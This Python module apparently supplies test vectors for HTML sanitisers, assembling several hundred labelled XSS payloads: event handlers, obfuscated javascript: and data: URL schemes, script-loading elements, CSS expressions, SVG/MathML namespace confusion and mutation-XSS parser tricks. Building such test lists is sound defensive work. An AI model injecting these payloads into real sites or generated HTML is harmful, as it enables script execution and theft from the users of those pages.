"""Attacks on sanitisers, by class. Each is a fragment that a careless cleaner lets through.

`VECTORS` is a list of (class, html). Classes are combined from parts where the attack is the
combination (every handler on every kind of element, every spelling of a scheme in every attribute).
"""
JS = "alert(1)"
HANDLERS = ("onload onerror onclick onmouseover onfocus onblur onanimationstart ontoggle onbegin onpointerenter "
            "onbeforescriptexecute onhashchange onwheel ondrag oncopy onscroll onfocusin ontransitionend").split()
CARRIERS = ("<img src=x {0}>", "<p {0}>x</p>", "<a href=http://a.example {0}>x</a>", "<table {0}><tr><td>x</table>",
            "<td {0}>x", "<li {0}>x", "<h1 {0}>x</h1>", "<b {0}>x</b>", "<blockquote {0}>x</blockquote>")
SCHEMES = (
    "javascript:" + JS, "JaVaScRiPt:" + JS, " javascript:" + JS, "\tjavascript:" + JS, "java\tscript:" + JS, "java\nscript:" + JS,
    "java\r\nscript:" + JS, "\x01javascript:" + JS, "\x1fjavascript:" + JS, "javascript&colon;" + JS, "javascript&#58;" + JS,
    "javascript&#x3a;" + JS, "&#106;avascript:" + JS, "&#x6A;avascript:" + JS, "&#0000106avascript:" + JS, "jav&#x09;ascript:" + JS,
    "jav&#x0A;ascript:" + JS, "jav&Tab;ascript:" + JS, "jav&NewLine;ascript:" + JS, "java&#0;script:" + JS, "java\u200bscript:" + JS,
    "java\u00adscript:" + JS, "\u3000javascript:" + JS, "\ufeffjavascript:" + JS, "vbscript:msgbox(1)", "livescript:" + JS, "mocha:" + JS,
    "data:text/html,<script>" + JS + "</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=" + JS + ">", "DATA:text/html," + JS, "feed:javascript:" + JS, "view-source:javascript:" + JS,
    "jar:javascript:" + JS, "file:///etc/passwd", "blob:http://a.example/x", "filesystem:http://a.example/x", "about:blank",
    "javascript://a.example/%0a" + JS, "javascript:/*-/*`/*\\`/*'/*\"/**/(" + JS + ")//", "http:javascript:" + JS, "x:y:javascript:" + JS,
    "%6aavascript:" + JS, "javascript%3a" + JS, "jаvascript:" + JS, "ｊavascript:" + JS)
URL_HOLES = ('<a href="{0}">x</a>', '<img src="{0}">', '<iframe src="{0}"></iframe>', '<blockquote cite="{0}">x</blockquote>')
ELEMENTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=http://a.example/x.js></SCRIPT>", "<script/src=//a.example>", "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script>alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script type=module>import 'x'</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>", "<script x>alert(1)</script 1=2>", "<script>/* */alert(1)/* */</script>",
    "<style>*{x:expression(alert(1))}</style>", "<style>@import 'http://a.example/x.css';</style>", "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=javascript:alert(1)>", "<link rel=import href=http://a.example>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<base href=javascript:alert(1)//>", "<base target=_top>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>", "<iframe/onload=alert(1)>", "<iframe><img src=x onerror=alert(1)></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<object data=javascript:alert(1)></object>",
    "<object classid=clsid:x><param name=src value=javascript:alert(1)></object>", "<object type=text/x-scriptlet data=http://a.example></object>",
    "<embed src=javascript:alert(1)>", "<embed code=http://a.example/x.swf allowscriptaccess=always>", "<applet code=x archive=http://a.example></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>", "<input type=image src=x onerror=alert(1)>", "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>", "<textarea></textarea><img src=x onerror=alert(1)></textarea>", "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>", "<video src=x onerror=alert(1)></video>", "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>", "<audio src=x onerror=alert(1)></audio>", "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>", "<bgsound src=javascript:alert(1)>", "<layer src=http://a.example></layer>", "<ilayer src=x></ilayer>",
    "<xml id=x><a><b>&lt;img src=x onerror=alert(1)&gt;</b></a></xml>", "<xss style=behavior:url(x.htc)>x</xss>", "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=javascript:alert(1)></portal>", "<slot onslotchange=alert(1)>x</slot>", "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
    "<map><area href=javascript:alert(1)></map>", "<button onclick=alert(1)>x</button>", "<menu><menuitem onclick=alert(1)>x</menu>",
    "<body onload=alert(1)>x", "<html onclick=alert(1)>x", "<head><script>alert(1)</script></head>", "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><img src=x onerror=alert(1)>", "<xmp><img src=x onerror=alert(1)></xmp>", "<listing><img src=x onerror=alert(1)></listing>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<noframes><img src=x onerror=alert(1)></noframes>", "<canvas onclick=alert(1)>x</canvas>",
    "<progress value=1 onclick=alert(1)></progress>", "<fieldset disabled onclick=alert(1)><legend>x</legend></fieldset>", "<picture><source srcset=x onerror=alert(1)><img src=x></picture>",
    "<img srcset='javascript:alert(1) 1x'>", "<img lowsrc=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>", "<img longdesc=javascript:alert(1) src=http://a.example/x.png>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>", "<a href=http://a.example ping=javascript:alert(1)>x</a>",
    "<a href=http://a.example target=_blank download=x>x</a>", "<q cite=javascript:alert(1)>x</q>", "<ins cite=javascript:alert(1)>x</ins>",
    "<td background=javascript:alert(1)>x", "<table background=javascript:alert(1)><tr><td>x</table>", "<body background=javascript:alert(1)>")
STYLES = (
    "background:url(javascript:alert(1))", "width:expression(alert(1))", "w\\69 dth:e\\78 pression(alert(1))", "-moz-binding:url(http://a.example/x#y)",
    "behavior:url(x.htc)", "background-image:url('data:image/svg+xml,<svg onload=alert(1)>')", "xss:expr/*x*/ession(alert(1))", "@import 'x'",
    "position:fixed;top:0;left:0;width:100%;height:100%", "color:red;/*</style><script>alert(1)</script>*/")
FOREIGN = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1)></script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>", "<svg><use href=data:image/svg+xml,x></use></svg>", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><image href=javascript:alert(1)></svg>", "<svg><handler>alert(1)</handler></svg>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>", "<svg><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)>", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><xss style=x href=javascript:alert(1)>x</math>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=alert(1)>'>",
    "<math><mtext><svg><foreignObject><style><img src=x onerror=alert(1)>", "<svg><font color=x><img src=x onerror=alert(1)>", "<svg><br><img src=x onerror=alert(1)>")
MUTATION = (
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<p title=\"</textarea><img src=x onerror=alert(1)>\">x</p>", "<img alt=\"`><img src=x onerror=alert(1)>\" src=http://a.example/x.png>",
    "<img alt=\"--><img src=x onerror=alert(1)>\" src=http://a.example/x.png>", "<a title=\"<script>alert(1)</script>\" href=http://a.example>x</a>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp></xmp><img src=x onerror=alert(1)></xmp>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<pre>\n\n<img src=x onerror=alert(1)></pre>", "<div><!--<img src='--><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--a--!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "<?php <img src=x onerror=alert(1)> ?>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;", "</p><img src=x onerror=alert(1)>", "<table><p><img src=x onerror=alert(1)></table>",
    "<table><script>alert(1)</script><tr><td>x</table>", "<table><style><img src=x onerror=alert(1)></style></table>", "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<option><style></option></select><b><img src=x onerror=alert(1)></b></style></option>", "<iframe><textarea></iframe><img src=x onerror=alert(1)>", "<noembed><noembed/></noembed><img src=x onerror=alert(1)>",
    "<style><style/></style><img src=x onerror=alert(1)>", "<title></title/><img src=x onerror=alert(1)>", "<a><a href=javascript:alert(1)>x</a></a>", "<form><form><input name=x onfocus=alert(1)></form>",
    "<b><p><b><p><b><p><img src=x onerror=alert(1)>", "<p><table><td><p><img src=x onerror=alert(1)>", "<ruby><rt><img src=x onerror=alert(1)></rt></ruby>", "<image src=x onerror=alert(1)>", "<img\nsrc=x\nonerror\n=\nalert(1)>")
SYNTAX = (
    "<img src=x onerror=alert(1)", "<img src=\"x\" onerror=\"alert(1)\"", "<img/src=x/onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<img\x00src=x onerror=alert(1)>", "<img src=x onerror\x00=alert(1)>",
    "<img src=x:x onerror=alert(1)>", "<img src='x'onerror=alert(1)>", "<img src=x onerror=\"alert(1)\"\"\">", "<img \"\"\"><script>alert(1)</script>\">", "<img src=x ONERROR=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert&lpar;1&rpar;>", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "<img src=x on\nerror=alert(1)>", "<img src=x o\u006eerror=alert(1)>", "<img src=x data-x='\" onerror=alert(1) \"'>", "<img src=x class=x id=x name=x onerror=alert(1)>",
    "<a href=\"http://a.example\" href=\"javascript:alert(1)\">x</a>", "<a HREF=javascript:alert(1)>x</a>", "<a href='javascript:alert(1)'>x</a>", "<a href=`javascript:alert(1)`>x</a>", "<a href=javascript:alert(1)//http://a.example>x</a>", "<a href=\"\njavascript:alert(1)\">x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>", "<a href=\"//a.example\" onclick=alert(1)>x</a>", "<a href=\"\\\\a.example\">x</a>", "<a href=#x onclick=alert(1)>x</a>", "<a id=location href=http://a.example>x</a>", "<a name=cookie href=http://a.example>x</a>",
    "< img src=x onerror=alert(1)>", "<\u200bimg src=x onerror=alert(1)>", "＜img src=x onerror=alert(1)＞", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "%3Cimg src=x onerror=alert(1)%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e", "+ADw-img src=x onerror=alert(1)+AD4-", "\ufffe<script>alert(1)</script>", "<script>alert(1)</script\x0b>", "</script><script>alert(1)</script>", "<a/><script>alert(1)</script>",
    "<td>< script >alert(1)< / script ></td>", "script >alert(1)< /script >", "<tr><td>x</td><script>alert(1)</script></tr>", "< td onclick=alert(1) >x< / td >< td >y< / td >", "＜td onclick=alert(1)＞x＜/td＞", "<td\u00a0onclick=alert(1)>x</td>",
    "<p onclick=alert(1)<b>x</b>", "<b onclick=alert(1)//<i>x</i>", "<a href='x' <img src=y onerror=alert(1)>>z</a>", "<x onclick=alert(1)>x</x>", "<x-y onclick=alert(1) src=javascript:alert(1)>x</x-y>", "<math:mi onclick=alert(1)>x</math:mi>",
    "<svg:script>alert(1)</svg:script>", "<a:script xmlns:a='http://www.w3.org/1999/xhtml'>alert(1)</a:script>", "<html:script>alert(1)</html:script>", "<o:p onclick=alert(1)>x</o:p>")


def build():
    out = []
    for i, h in enumerate(HANDLERS):
        for j in range(3):  # each handler on three of the carriers, so that all pairs of kinds occur
            out.append(("handler", CARRIERS[(i + 3 * j) % len(CARRIERS)].format(f"{h}={JS}")))
    for s in SCHEMES:
        for hole in URL_HOLES:
            out.append(("scheme", hole.format(s.replace('"', "&quot;"))))
    out += [("element", v) for v in ELEMENTS]
    out += [("style", f'<p style="{s}">x</p>') for s in STYLES] + [("style", f"<style>p{{{s}}}</style><p>x</p>") for s in STYLES]
    out += [("foreign", v) for v in FOREIGN] + [("mutation", v) for v in MUTATION] + [("syntax", v) for v in SYNTAX]
    return out


VECTORS = build()
